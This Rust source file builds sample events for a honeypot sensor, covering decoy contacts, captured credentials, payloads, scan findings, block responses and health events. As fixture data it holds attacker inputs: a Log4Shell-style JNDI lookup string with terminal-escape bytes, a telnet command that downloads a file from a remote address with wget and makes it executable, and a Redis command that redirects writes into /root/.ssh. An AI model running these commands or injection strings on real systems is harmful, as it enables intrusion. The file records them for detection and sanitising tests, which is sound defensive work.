//! One event for every action and service that says something of its own, with fixed ids and times.

pub mod decisions;

use std::net::IpAddr;

use smol_str::SmolStr;
use trapline_schemas::derive::risk::{Circumstances, risk};
use trapline_schemas::ids::{SiteKey, community, derived, incident};
use trapline_schemas::text::clean;
use trapline_schemas::{Action, Event, Field, Timestamp};

/// What a hostile peer sends where a name is asked for.
pub const HOSTILE: &[u8] =
    b"\x1b[2J\r\n\0${jndi:ldap://x/a}<b>|^=\\\"' \xff\xfe\xe2\x80\xae\xc2\x85\xe2\x80\x8b\xed\xa0\x80";

/// 2026-03-04T10:15:30.123456Z.
const NOON: i64 = 1_772_619_330_123_456;

/// Where a contact comes from.
#[derive(Clone, Copy)]
pub enum From {
    Outside,
    OutsideV6,
    Inside,
}

pub const EVERYWHERE: [From; 3] = [From::Outside, From::OutsideV6, From::Inside];

impl From {
    fn ips(self) -> (IpAddr, IpAddr) {
        let (source, destination) = match self {
            Self::Outside => ("203.0.113.77", "10.20.30.40"),
            Self::OutsideV6 => ("2001:db8:77::5", "2001:db8:30::40"),
            Self::Inside => ("10.20.31.15", "10.20.30.40"),
        };
        let ip = |text: &str| text.parse().expect("the samples' addresses are addresses");
        (ip(source), ip(destination))
    }

    fn is_inside(self) -> bool {
        matches!(self, Self::Inside)
    }
}

/// Makes events one second apart, each with ids of its own.
pub struct Maker {
    made: i64,
}

impl Maker {
    pub fn new() -> Self {
        Self { made: 0 }
    }

    /// An event of this sensor about nothing in particular.
    pub fn event(&mut self, action: Action) -> Event {
        self.made += 1;
        let at = Timestamp::from_micros(NOON + self.made * 1_000_000);
        let mut event = Event::new(derived("sample", action.name(), at), at, action);
        event.set(Field::EventCreated, Timestamp::from_micros(at.micros() + 2000));
        event.set(Field::ObserverName, "lure-dmz-01");
        event.set(Field::ObserverHostname, "lure-dmz-01");
        event.set(Field::ObserverVersion, "0.1.0");
        event.set(Field::Site, "lyon");
        event.set(Field::BootId, derived("boot", "", Timestamp::default()));
        event.set(Field::JournalSequence, self.made);
        event
    }

    /// A hit on a decoy.
    pub fn hit(&mut self, action: Action, service: &str, from: From) -> Event {
        let mut event = self.event(action);
        let udp = matches!(service, "snmp" | "dns" | "udp");
        let (source, destination) = from.ips();
        let (source_port, port) = (40_022, port(service));
        event.set(Field::SourceIp, source);
        event.set(Field::SourcePort, source_port);
        event.set(Field::DestinationIp, destination);
        event.set(Field::DestinationPort, port);
        event.set(Field::NetworkTransport, if udp { "udp" } else { "tcp" });
        let flow = ((source, source_port).into(), (destination, port).into());
        event.set(
            Field::NetworkCommunityId,
            community(if udp { 17 } else { 6 }, flow.0, flow.1),
        );
        event.set(Field::SessionId, derived("session", service, event.at));
        event.set(Field::IncidentId, incident(&SiteKey::new([7; 32]), source, event.at));
        event.set(Field::DecoyId, service);
        event.set(Field::DecoyService, service);
        event.set(Field::SourceZone, if from.is_inside() { "inside" } else { "external" });
        event.set(Field::SourceZoneInside, from.is_inside());
        event.set(Field::TouchLevel, level(action));
        if udp {
            event.set(Field::SourceSpoofable, true);
        }
        let circumstances = Circumstances {
            inside: from.is_inside(),
            unverified: udp,
            ..Default::default()
        };
        event.set(Field::EventRiskScore, risk(action, &circumstances));
        event
    }
}

fn port(service: &str) -> u16 {
    match service {
        "ssh" => 22,
        "telnet" => 23,
        "ftp" => 21,
        "http" => 80,
        "smb" => 445,
        "rdp" => 3389,
        "redis" => 6379,
        "snmp" => 161,
        "dns" => 53,
        _ => 9200,
    }
}

fn level(action: Action) -> &'static str {
    match action {
        Action::Connect | Action::UdpProbe | Action::SessionEnd => "contact",
        Action::Handshake => "intent",
        _ => "proof",
    }
}

/// Adds what each service knows of its peer once it spoke; `text` makes the texts.
fn identity(event: &mut Event, service: &str, text: impl Fn(&str) -> SmolStr) {
    match service {
        "ssh" => {
            event.set(Field::SshClientVersion, text("SSH-2.0-libssh_0.9.6"));
            event.set(Field::SshHassh, "ec7378c1a92f5a8dde7e8b7a1ddf33d1");
            event.set(Field::SshIdentFirst, false);
        }
        "telnet" => {
            event.set(Field::TelnetTerminal, text("xterm"));
            event.set(Field::TelnetWindow, "80x24");
            event.set(Field::TelnetOptions, "24,31,39");
        }
        "http" => {
            event.set(Field::HttpMethod, text("GET"));
            event.set(Field::UrlOriginal, text("/cgi-bin/luci?x=1"));
            event.set(Field::UrlPath, text("/cgi-bin/luci"));
            event.set(Field::UrlDomain, text("router.example"));
            event.set(Field::UserAgent, text("curl/8.5.0"));
            event.set(Field::HttpReferrer, text("http://router.example/"));
            event.set(Field::HttpRequestBytes, 4_i64);
            event.set(Field::HttpVersion, "1.1");
            event.set(
                Field::HttpHeaders,
                vec![SmolStr::new("Host"), SmolStr::new("User-Agent")],
            );
            event.set(Field::HttpStatus, 401_i64);
        }
        "rdp" => {
            event.set(Field::RdpCookie, text("administr"));
            event.set(Field::UserName, text("administr"));
            event.set(Field::TlsVersion, "1.3");
            event.set(Field::TlsServerName, text("lure.example"));
            event.set(Field::TlsJa3, "771d0f0f1f2a3b4c5d6e7f8091a2b3c4");
            event.set(Field::TlsCipher, "TLS_AES_256_GCM_SHA384");
            let offered = ["TLS_AES_256_GCM_SHA384", "TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256"];
            event.set(Field::TlsCiphers, offered.map(SmolStr::new).to_vec());
            event.set(Field::TlsCipherCount, 2_i64);
            event.set(Field::TlsAlpn, ["h2", "http/1.1"].map(SmolStr::new).to_vec());
            event.set(Field::TlsProtocol, "tls");
            event.set(Field::TlsJa4, "t13d1516h2_8daaf6152771_b186095e22b6");
        }
        _ => {}
    }
}

fn credential(event: &mut Event, kind: &str, user: Option<&str>) {
    event.set(Field::CredentialKind, kind);
    event.set_some(Field::UserName, user);
    event.set(Field::EventSequence, 1_i64);
    event.set(Field::EventReason, "decoy never grants access");
    if kind != "key" {
        event.set(Field::CredentialSecretHmac, SiteKey::new([7; 32]).hmac_hex(b"hunter2"));
        event.set(Field::CredentialSecretLength, 7_i64);
    }
}

fn payload(event: &mut Event, bytes: &[u8], seen: i64) {
    event.set(Field::PayloadBase64, bytes.to_vec());
    event.set(Field::PayloadSize, seen);
    event.set(Field::PayloadMasked, false);
    event.set(Field::PayloadSha256, SiteKey::new([0; 32]).hmac_hex(bytes));
    event.set(Field::SourceBytes, seen);
    event.set(Field::DestinationBytes, 21_i64);
}

fn texts(words: &[&str]) -> Vec<SmolStr> {
    words.iter().map(SmolStr::new).collect()
}

/// Every contact: each action and service, from outside over IPv4 and IPv6 and from inside.
pub fn contacts() -> Vec<Event> {
    let mut make = Maker::new();
    let mut events = Vec::new();
    for from in EVERYWHERE {
        for service in ["ssh", "telnet", "ftp", "http", "tcp"] {
            events.push(make.hit(Action::Connect, service, from));
        }
        for service in ["ssh", "telnet", "http", "rdp"] {
            let mut event = make.hit(Action::Handshake, service, from);
            identity(&mut event, service, |text| SmolStr::new(text));
            events.push(event);
        }
        events.extend(logins(&mut make, from));
        events.extend(input(&mut make, from));
        events.extend(datagrams(&mut make, from));
        events.extend(ends(&mut make, from));
    }
    events.extend(hostile(&mut make));
    events.extend(unusual(&mut make));
    events
}

fn logins(make: &mut Maker, from: From) -> Vec<Event> {
    let kinds = [
        ("ssh", "password", Some("root")),
        ("ssh", "key", Some("git")),
        ("telnet", "password", Some("admin")),
        ("ftp", "password", Some("anonymous")),
        ("http", "password", Some("admin")),
        ("http", "form", Some("admin")),
        ("snmp", "community", None),
    ];
    let mut events: Vec<Event> = kinds
        .iter()
        .map(|(service, kind, user)| {
            let mut event = make.hit(Action::Credential, service, from);
            identity(&mut event, service, |text| SmolStr::new(text));
            credential(&mut event, kind, *user);
            event
        })
        .collect();
    let mut ntlm = make.hit(Action::Ntlm, "smb", from);
    ntlm.set(Field::NtlmVersion, "NTLMv2");
    ntlm.set(Field::NtlmWorkstation, "WS-0417");
    ntlm.set(Field::NtlmTarget, "LURE");
    ntlm.set(Field::NtlmServerChallenge, "1122334455667788");
    ntlm.set(
        Field::NtlmResponseSha256,
        "2d711642b726b04401627ca9fbac32f5c8530fb1903cc4db02258717921a4881",
    );
    ntlm.set(Field::UserName, "svc-backup");
    ntlm.set(Field::UserDomain, "CORP");
    ntlm.set(Field::SourceDomain, "ws-0417");
    ntlm.set(Field::SourceMac, "AA-BB-CC-00-11-22");
    ntlm.set(Field::SmbDialects, texts(&["2.1", "3.1.1"]));
    events.push(ntlm);
    events
}

fn input(make: &mut Maker, from: From) -> Vec<Event> {
    let mut events = Vec::new();
    for (service, bytes) in [
        ("ssh", &b"SSH-2.0-Go\r\n\0\0\x02\x8c"[..]),
        ("telnet", b"\xff\xfd\x01enable\r\nsh\r\n/bin/busybox TRAP\r\n"),
        ("http", b"POST /x HTTP/1.1\r\nHost: a\r\n\r\nid=1"),
        ("tcp", b"\x16\x03\x01\x02\0\x01\0\x01\xfc\x03\x03"),
    ] {
        let mut event = make.hit(Action::Payload, service, from);
        identity(&mut event, service, |text| SmolStr::new(text));
        payload(&mut event, bytes, bytes.len() as i64);
        events.push(event);
    }
    for (service, command) in [
        ("ssh", "uname -a"),
        ("telnet", "cd /tmp; wget http://198.51.100.9/x; chmod 777 x"),
        ("ftp", "SYST"),
        ("redis", "CONFIG SET dir /root/.ssh"),
    ] {
        let mut event = make.hit(Action::Query, service, from);
        event.set(Field::Commands, texts(&[command]));
        event.set(Field::EventSequence, 2_i64);
        events.push(event);
    }
    for (service, verb, name) in [("ftp", "STOR", "x.sh"), ("ftp", "LIST", "/"), ("smb", "", "share.doc")] {
        let mut event = make.hit(Action::File, service, from);
        event.set_some(Field::FtpCommand, Some(verb).filter(|verb| !verb.is_empty()));
        event.set(Field::FileName, name);
        if service == "smb" {
            event.set(Field::SmbDialects, texts(&["2.1", "3.1.1"]));
            event.set(Field::SmbShare, "\\\\LURE\\docs");
        }
        if verb == "STOR" {
            event.set(Field::FileSize, 512_i64);
            event.set(
                Field::FileHashSha256,
                "195bfddd48170ce7e462d16815c50f8daef11b42359fde818b072ae59875bb3e",
            );
        }
        events.push(event);
    }
    events
}

fn datagrams(make: &mut Maker, from: From) -> Vec<Event> {
    let mut one = make.hit(Action::UdpProbe, "snmp", from);
    payload(
        &mut one,
        b"0&\x02\x01\x01\x04\x06******\xa0\x19\x02\x04\x05\x06\x07\x08",
        40,
    );
    one.set(Field::SourcePackets, 1_i64);
    one.set(Field::SnmpVersion, "2c");
    let mut many = make.hit(Action::UdpProbe, "udp", from);
    many.set(Field::SourcePackets, 12_i64);
    many.set(Field::SourceBytes, 480_i64);
    vec![one, many]
}

fn ends(make: &mut Maker, from: From) -> Vec<Event> {
    ["ssh", "ftp", "http", "tcp"]
        .iter()
        .map(|service| {
            let mut event = make.hit(Action::SessionEnd, service, from);
            let start = Timestamp::from_micros(event.at.micros() - 2_340_000);
            event.set(Field::EventStart, start);
            event.set(Field::EventEnd, event.at);
            event.set(Field::EventDuration, 2_340_000_000_i64);
            event.set(Field::EventReason, "closed by peer");
            event.set(Field::SourceBytes, 120_i64);
            event.set(Field::DestinationBytes, 64_i64);
            event.set(Field::SessionCredentials, 3_i64);
            event
        })
        .collect()
}

/// The same with all that a hostile peer can choose.
pub fn hostile(make: &mut Maker) -> Vec<Event> {
    let bad = |_: &str| clean(HOSTILE);
    let mut events = Vec::new();
    for service in ["ssh", "telnet", "ftp", "http", "rdp", "tcp"] {
        for action in [
            Action::Handshake,
            Action::Credential,
            Action::Payload,
            Action::Query,
            Action::File,
        ] {
            let mut event = make.hit(action, service, From::Outside);
            identity(&mut event, service, bad);
            event.set(Field::UserName, clean(HOSTILE));
            event.set(Field::UserDomain, clean(HOSTILE));
            event.set(Field::SourceDomain, clean(HOSTILE));
            event.set(Field::NtlmWorkstation, clean(HOSTILE));
            event.set(Field::FileName, clean(HOSTILE));
            event.set(Field::FtpCommand, clean(HOSTILE));
            event.set(Field::HttpForwardedFor, clean(HOSTILE));
            event.set(Field::Commands, vec![clean(HOSTILE), clean(&[0xff; 300])]);
            payload(&mut event, &HOSTILE.repeat(20), 1_000_000);
            events.push(event);
        }
    }
    events
}

/// What else an event can be: benign noise, a shared address, a masked payload, an event of a newer version.
fn unusual(make: &mut Maker) -> Vec<Event> {
    let mut benign = make.hit(Action::Connect, "smb", From::Inside);
    benign.set(Field::BenignName, "domain-controller");
    benign.set(Field::BenignReason, "domain controllers probe 135, 445 and 3389");
    benign.set(Field::SourceSharedAddress, true);
    benign.set(Field::EventRiskScore, 0.0);
    benign.set(Field::OrganizationId, "acme");
    let mut masked = make.hit(Action::Payload, "ftp", From::Outside);
    payload(&mut masked, b"USER root\r\nPASS *******\r\n", 25);
    masked.set(Field::PayloadMasked, true);
    let hmac = SiteKey::new([7; 32]).hmac_hex(b"USER root\r\nPASS hunter2\r\n");
    masked.set(Field::PayloadHmac, hmac);
    let mut newer = make.hit(Action::Other, "ssh", From::Outside);
    newer.set_action_name("decoy-telepathy");
    newer.keep_unknown("honeyport.mind".to_owned(), "{\"read\":true}".into());
    let mut nowhere = make.event(Action::Other);
    nowhere.set_action_name("moon-phase");
    let mut pseudonym = make.hit(Action::Connect, "ssh", From::Outside);
    pseudonym.remove(Field::SourceIp);
    pseudonym.remove(Field::NetworkCommunityId);
    pseudonym.set(Field::SourceAddress, "5d1f0b6c9a3e47288c6f2a1b0d9e4f77");
    pseudonym.remove(Field::DestinationIp);
    pseudonym.set(Field::DestinationAddress, "08d0d1b7c5a94c2f9b1e2f3a4c5d6e7f");
    pseudonym.set(Field::SampleOneIn, 10_i64);
    let mut known = make.hit(Action::Connect, "ssh", From::Outside);
    known.set(Field::SourceOwner, "Lab team");
    known.set(Field::SourceTags, texts(&["lab", "partner"]));
    known.set(Field::SourceAsNumber, 64_496_i64);
    known.set(Field::SourceAsName, "Example Net");
    known.set(Field::SourceGeoCity, "Lyon");
    known.set(Field::SourceGeoContinent, "EU");
    known.set(Field::SourceGeoCountry, "FR");
    known.set(Field::SourceGeoCountryName, "France");
    known.set(Field::SourceGeoLat, 45.75);
    known.set(Field::SourceGeoLon, 4.85);
    known.set(Field::SourceGeoRegion, "Auvergne");
    vec![benign, masked, newer, nowhere, pseudonym, known]
}

/// The end of an incident over midnight, of a source that somebody answers for.
fn incident_closed(make: &mut Maker) -> Event {
    let (source, key) = (From::Inside.ips().0, SiteKey::new([7; 32]));
    let mut closed = make.event(Action::IncidentClosed);
    let before = Timestamp::from_micros(closed.at.micros() - 86_400_000_000);
    let ended = Timestamp::from_micros(before.micros() + 900_000_000);
    closed.set(Field::TransformName, "follow/pager");
    closed.set(Field::IncidentId, incident(&key, source, closed.at));
    closed.set(Field::IncidentPrevious, incident(&key, source, before));
    closed.set(Field::EventReason, "quiet for 24h");
    closed.set(Field::EventStart, before);
    closed.set(Field::EventEnd, ended);
    closed.set(Field::EventDuration, 900_000_000_000_i64);
    closed.set(Field::FindingHits, 412_i64);
    closed.set(Field::FindingStatus, "closed");
    closed.set(Field::TouchLevel, "proof");
    closed.set(Field::SourceIp, source);
    closed.set(Field::SourceOwner, "Lab team");
    closed.set(Field::SourceZone, "inside");
    closed.set(Field::SourceZoneInside, true);
    closed
}

/// The owner of a source is written to, as a person let it be.
fn notice_released(make: &mut Maker) -> Event {
    let (source, key) = (From::Inside.ips().0, SiteKey::new([7; 32]));
    let mut released = make.event(Action::NoticeReleased);
    released.set(Field::IncidentId, incident(&key, source, released.at));
    released.set(Field::EventReason, "seen with the team");
    span(&mut released, 900);
    released.set(Field::FindingHits, 412_i64);
    released.set(Field::TouchLevel, "proof");
    released.set(Field::SourceIp, source);
    released.set(Field::SourceOwner, "Lab team");
    released.set(Field::ReleaseBy, "alice");
    released.set(Field::ReleaseUid, 1000_i64);
    released.set(Field::ReleaseNumber, 1_i64);
    released.set(Field::ReleaseTo, "Lab <lab@example.org>");
    released.set(Field::ReleaseServices, texts(&["ssh", "telnet"]));
    released.set(Field::ReleaseSinks, texts(&["mail"]));
    released
}

/// The same, as an act against the source has it.
fn notice_of_enforcement(make: &mut Maker) -> Event {
    let mut released = notice_released(make);
    released.remove(Field::ReleaseUid);
    released.remove(Field::EventReason);
    released.set(Field::ReleaseBy, "enforcement");
    released.set(Field::ReleaseNumber, 2_i64);
    let decision = derived("decision", "7", released.at);
    released.set(Field::ResponseId, decision);
    released
}

/// What one source did in a window whose first event went out at once.
fn digest(make: &mut Maker) -> Event {
    let mut digest = make.event(Action::Digest);
    digest.set(Field::TransformName, "digest");
    digest.set(Field::TransformKey, "203.0.113.77");
    digest.set(Field::FindingHits, 412_i64);
    digest.set(Field::SourceIp, From::Outside.ips().0);
    digest.set(Field::SourceZone, "external");
    digest.set(Field::SourceZoneInside, false);
    digest.set(Field::NetworkTransport, "tcp");
    digest.set(Field::TouchLevel, "proof");
    digest.set(Field::EventRiskScore, 60.0);
    digest.set(
        Field::DigestActions,
        texts(&["decoy-credential=380", "decoy-connect=32"]),
    );
    digest.set(Field::DigestPassed, 1_i64);
    digest.set(Field::DigestSample, derived("sample", "", Timestamp::default()));
    digest.set(Field::DigestUsers, texts(&["root", "admin"]));
    digest.set(Field::DigestUserCount, 2_i64);
    digest.set(Field::ScanDecoys, texts(&["ftp", "ssh", "telnet"]));
    digest.set(Field::ScanDecoyCount, 3_i64);
    digest.set(Field::ScanPorts, vec![21_i64, 22, 23]);
    digest.set(Field::ScanPortCount, 3_i64);
    span(&mut digest, 900);
    digest
}

/// What several sources did to one decoy.
fn digest_of_sources(make: &mut Maker) -> Event {
    let mut digest = make.event(Action::Digest);
    digest.set(Field::TransformName, "by_decoy");
    digest.set(Field::TransformKey, "ssh");
    digest.set(Field::FindingHits, 2_i64);
    digest.set(Field::DecoyId, "ssh");
    digest.set(Field::DecoyService, "ssh");
    digest.set(Field::DestinationPort, 22_i64);
    digest.set(Field::TouchLevel, "contact");
    digest.set(Field::EventRiskScore, 25.0);
    digest.set(Field::DigestActions, texts(&["decoy-connect=2"]));
    digest.set(Field::DigestSample, derived("sample", "", Timestamp::default()));
    digest.set(
        Field::DigestSources,
        vec![From::Outside.ips().0, From::OutsideV6.ips().0],
    );
    digest.set(Field::DigestSourceCount, 2_i64);
    digest.set(Field::ScanDecoys, texts(&["ssh"]));
    digest.set(Field::ScanDecoyCount, 1_i64);
    digest.set(Field::ScanPorts, vec![22_i64]);
    digest.set(Field::ScanPortCount, 1_i64);
    span(&mut digest, 60);
    digest
}

/// What no peer did.
fn digest_of_health(make: &mut Maker) -> Event {
    let mut digest = make.event(Action::Digest);
    digest.set(Field::TransformName, "daily");
    digest.set(Field::TransformKey, "siem");
    digest.set(Field::FindingHits, 7_i64);
    digest.set(Field::DigestActions, texts(&["sink-failed=4", "sink-recovered=3"]));
    span(&mut digest, 86_400);
    digest
}

/// Scans, folds, held-back counts, digests and incidents that closed.
pub fn findings() -> Vec<Event> {
    let mut make = Maker::new();
    let mut events = Vec::new();
    for (from, status) in [
        (From::Inside, "new"),
        (From::Outside, "updated"),
        (From::OutsideV6, "closed"),
    ] {
        let mut scan = make.event(Action::Scan);
        scan.set(Field::SourceIp, from.ips().0);
        scan.set(Field::SourceZone, if from.is_inside() { "inside" } else { "external" });
        scan.set(Field::SourceZoneInside, from.is_inside());
        scan.set(Field::NetworkTransport, "tcp");
        scan.set(Field::FindingId, derived("scan", "10.20.31.15", Timestamp::default()));
        scan.set(Field::FindingStatus, status);
        scan.set(Field::FindingHits, 26_i64);
        scan.set(Field::ScanKind, "vertical");
        scan.set(Field::ScanPorts, vec![21_i64, 22, 23, 80, 443]);
        scan.set(Field::ScanPortCount, 5_i64);
        scan.set(Field::ScanDecoys, texts(&["ftp", "ssh", "telnet", "http"]));
        scan.set(Field::ScanDecoyCount, 4_i64);
        scan.set(Field::ScanRate, 26.0);
        span(&mut scan, 60);
        events.push(scan);
    }
    let mut folded = make.event(Action::SourceFolded);
    folded.set(Field::SourceIp, From::Outside.ips().0);
    folded.set(Field::FindingHits, 12_345_i64);
    span(&mut folded, 60);
    let mut held = make.event(Action::HeldBack);
    held.set(Field::TransformName, "quiet");
    held.set(Field::TransformKey, "203.0.113.77");
    held.set(Field::FindingHits, 57_i64);
    span(&mut held, 900);
    let mut one = held.clone();
    one.set(Field::FindingHits, 1_i64);
    one.set(Field::SourceIp, From::OutsideV6.ips().0);
    let closed = incident_closed(&mut make);
    let mut pseudonym = incident_closed(&mut make);
    for field in [Field::SourceIp, Field::SourceOwner, Field::IncidentPrevious] {
        pseudonym.remove(field);
    }
    pseudonym.set(Field::SourceAddress, "5d1f0b6c9a3e47288c6f2a1b0d9e4f77");
    pseudonym.set(Field::EventReason, "50000 others are open: quiet for 2h");
    events.extend([
        closed,
        pseudonym,
        folded,
        held,
        one,
        digest(&mut make),
        digest_of_sources(&mut make),
        digest_of_health(&mut make),
        notice_released(&mut make),
        notice_of_enforcement(&mut make),
    ]);
    events
}

fn span(event: &mut Event, seconds: i64) {
    event.set(
        Field::EventStart,
        Timestamp::from_micros(event.at.micros() - seconds * 1_000_000),
    );
    event.set(Field::EventEnd, event.at);
    event.set(Field::EventDuration, seconds * 1_000_000_000);
}

/// What was done about sources.
pub fn responses() -> Vec<Event> {
    let mut make = Maker::new();
    let mut events = Vec::new();
    for (action, kind, target) in [
        (Action::Block, "block", "firewall"),
        (Action::Unblock, "block", "firewall"),
        (Action::Tag, "tag", "edr"),
        (Action::Sinkhole, "sinkhole", "rpz"),
    ] {
        for (from, how) in [
            (From::Outside, "done"),
            (From::OutsideV6, "failed"),
            (From::Inside, "dry run"),
        ] {
            let mut event = make.event(action);
            event.set(Field::SourceIp, from.ips().0);
            event.set(Field::SourceZoneInside, from.is_inside());
            event.set(Field::ResponseId, derived("decision", kind, event.at));
            event.set(Field::ResponseCause, derived("cause", kind, event.at));
            event.set(Field::ResponseKind, kind);
            event.set(Field::ResponseTarget, target);
            event.set(Field::ResponseState, "enforced");
            event.set(Field::ResponseRule, "credentials");
            event.set(Field::ResponseDryRun, how == "dry run");
            event.set(Field::EventReason, "TL-1101 Credential offered to decoy");
            if action != Action::Unblock {
                event.set(Field::ResponseTtl, 3600_i64);
                event.set(
                    Field::ResponseExpires,
                    Timestamp::from_micros(event.at.micros() + 3_600_000_000),
                );
            }
            if how == "failed" {
                event.set(Field::ErrorType, "netlink");
                event.set(Field::ErrorCode, "EPERM");
                event.set(Field::ErrorMessage, "operation not permitted");
            }
            events.push(event);
        }
    }
    events
}

/// This host: its life, decoys, sinks and journal.
pub fn health() -> Vec<Event> {
    let mut make = Maker::new();
    let mut events = Vec::new();
    for action in Action::ALL {
        if action.row().category != "health" {
            continue;
        }
        let mut event = make.event(*action);
        match action {
            Action::SinkFailed | Action::SinkRecovered => {
                event.set(Field::SinkName, "siem");
                event.set(Field::SinkType, "splunk_hec");
                event.set(Field::SinkRetries, 12_i64);
                event.set(Field::SinkQueued, 1840_i64);
            }
            Action::ListenerStarted | Action::ListenerStopped | Action::ListenerFailed => {
                event.set(Field::DecoyId, "ssh");
                event.set(Field::DecoyService, "ssh");
                event.set(Field::DestinationPort, 22_i64);
            }
            Action::JournalGap => {
                event.set(Field::SinkName, "siem");
                event.set(Field::GapFirst, 1_i64);
                event.set(Field::GapLast, 640_i64);
                event.set(Field::FindingHits, 640_i64);
                event.set(Field::EventReason, "trimmed to 10 GiB");
            }
            Action::ChainHead | Action::ChainBreak => {
                event.set(
                    Field::JournalHash,
                    "a1118e15c0d38b7f9fd2a0b7475b89c646cdaa210c2ca18312dcb36c72ff590c",
                );
            }
            Action::Recovered => event.set(Field::EventReason, "3 elements of the block set"),
            Action::HostAlarm => event.set(Field::EventReason, "the clock went forward by 86400 s"),
            Action::Canary => event.set(Field::EventReason, "asked for by `trapline check --canary`"),
            Action::SensorStopped => event.set(Field::EventReason, "signal"),
            Action::ConfigReloaded => event.set(Field::EventReason, "decoy ftp added, sink siem changed"),
            Action::ConfigRefused => {
                event.set(Field::ConfigMistakes, 3_i64);
                event.set(Field::ErrorType, "config");
                event.set(
                    Field::ErrorMessage,
                    "/etc/trapline/trapline.toml:7:11: unknown service `shs`",
                );
            }
            _ => {}
        }
        if action.row().outcome == "failure" && !matches!(action, Action::JournalGap | Action::ConfigRefused) {
            event.set(Field::ErrorType, "http");
            event.set(Field::ErrorCode, "503");
            event.set(Field::ErrorMessage, "collector answered 503");
        }
        events.push(event);
    }
    let mut dropped = make.event(Action::JournalGap);
    dropped.set(Field::DecoyId, "snmp");
    dropped.set(Field::DecoyService, "udp");
    dropped.set(
        Field::EventReason,
        "the kernel dropped them, they came faster than they were read",
    );
    dropped.set(Field::FindingHits, 17_270_i64);
    dropped.set(Field::NetworkTransport, "udp");
    span(&mut dropped, 12);
    events.push(dropped);
    events
}

/// Every sample, by the name of its files.
pub fn all() -> [(&'static str, Vec<Event>); 5] {
    [
        ("contact", contacts()),
        ("finding", findings()),
        ("response", responses()),
        ("decision", decisions::samples()),
        ("health", health()),
    ]
}
